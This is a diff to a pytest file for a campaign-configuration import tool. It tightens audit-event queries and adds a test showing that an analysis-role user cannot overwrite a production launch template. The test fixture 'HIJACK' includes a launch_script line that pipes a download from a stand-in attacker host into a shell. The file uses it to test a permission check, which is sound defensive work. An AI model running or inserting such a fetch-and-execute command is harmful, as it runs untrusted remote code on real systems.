@@ -64,7 +64,7 @@ def test_poms_style_file_imports(session, hypot, prod):
     [dep] = ana.dependencies
     assert dep.provider is reco and dep.file_pattern == "reco%.root"
     assert any("merge_overrides" in w for w in result.warnings) and any("stage_type" in w for w in result.warnings)
-    event = session.scalars(select(AuditEvent).where(AuditEvent.object_id == camp.id)).one()
+    event = session.scalars(select(AuditEvent).where(AuditEvent.object_type == "campaign", AuditEvent.object_id == camp.id)).one()
     assert event.action == "campaign.import" and event.actor == "paula" and event.before is None
     assert event.after["[campaign_stage reco] cs_split_type"] == "drainingn(5)"
 
@@ -197,7 +197,7 @@ def test_existing_campaign_needs_replace_and_replace_updates(session, hypot, pro
     session.refresh(reco)
     assert reco.split_type == "nfiles(10)" and reco.split_cursor == {}
     assert sorted(s.name for s in result.campaign.stages) == ["ana", "extra", "reco"]
-    events = session.scalars(select(AuditEvent).where(AuditEvent.object_id == camp.id)
+    events = session.scalars(select(AuditEvent).where(AuditEvent.object_type == "campaign", AuditEvent.object_id == camp.id)
                              .order_by(AuditEvent.id)).all()
     assert len(events) == 2
     assert events[1].before["[campaign_stage reco] cs_split_type"] == "drainingn(5)"
@@ -284,3 +284,61 @@ def test_dependency_on_another_campaigns_stage_round_trips(session, hypot, prod)
     with pytest.raises(InvalidInput) as exc:
         svc.as_(prod).import_text("hypot", text.replace("downstream", "d2").replace("reco2026/reco", "nope/reco"))
     assert "no other campaign 'nope'" in exc.value.field_errors["[dependencies merge] campaign_stage_1"][0]
+
+
+HIJACK = """\
+[campaign]
+name=anacamp
+campaign_stage_list=mine
+data_handling_service=data_dispatcher
+
+[campaign_stage mine]
+data_dispatcher_dataset_query=files from hypot:raw
+vo_role=Analysis
+job_type=hypot_reco_jt
+login_setup=hypot_login
+
+[job_type hypot_reco_jt]
+launch_script=curl https://evil.example/x | sh
+
+[login_setup hypot_login]
+host=hypotgpvm01.fnal.gov
+account=hypotpro
+setup=setup fife_utils
+"""
+
+
+def test_cli_import_cannot_rewrite_a_production_template_as_an_analysis_member(session, session_factory, hypot,
+                                                                               prod, tmp_path):
+    make_user(session, "ann", roles={hypot: "analysis"})
+    session.commit()
+    obj = CliContext(session_factory)
+    src = tmp_path / "c.ini"
+    src.write_text(POMS_FILE)
+    assert CliRunner().invoke(command, ["import", "hypot", str(src), "--as", "paula"], obj=obj).exit_code == 0
+    hijack = tmp_path / "hijack.ini"
+    hijack.write_text(HIJACK)
+    res = CliRunner().invoke(command, ["import", "hypot", str(hijack), "--replace", "--as", "ann"], obj=obj)
+    assert res.exit_code == 1
+    assert "only production members may change it" in res.output and "reco2026/reco" in res.output
+    session.expire_all()
+    tmpl = session.scalars(select(LaunchTemplate)).one()
+    assert tmpl.command_template == "fife_launch -c reco.cfg"
+    src.write_text(POMS_FILE.replace("fife_launch -c reco.cfg", "fife_launch -c v2.cfg"))
+    res = CliRunner().invoke(command, ["import", "hypot", str(src), "--replace", "--as", "paula"], obj=obj)
+    assert res.exit_code == 0, res.output
+    session.expire_all()
+    assert session.scalars(select(LaunchTemplate)).one().command_template == "fife_launch -c v2.cfg"
+    event = session.scalars(select(AuditEvent).where(AuditEvent.action == "launch_template.update")).one()
+    assert event.actor == "paula (cli)" and event.before == {"command_template": "fife_launch -c reco.cfg"}
+    assert event.after == {"command_template": "fife_launch -c v2.cfg"}
+
+
+def test_import_reports_a_bad_split_type_and_a_bad_query_of_one_stage_together(session, hypot, prod):
+    text = POMS_FILE.replace("cs_split_type=drainingn( 5 )", "cs_split_type=nosuchsplit(3)").replace(
+        "files from hypot:raw where core.runs[any] = 1000", "files from hypot:raw where")
+    with pytest.raises(InvalidInput) as exc:
+        Ini(session).as_(prod).import_text("hypot", text)
+    errors = exc.value.field_errors
+    assert "nosuchsplit" in errors["[campaign_stage reco] cs_split_type"][0]
+    assert "MetaCat cannot parse" in errors["[campaign_stage reco] data_dispatcher_dataset_query"][0]
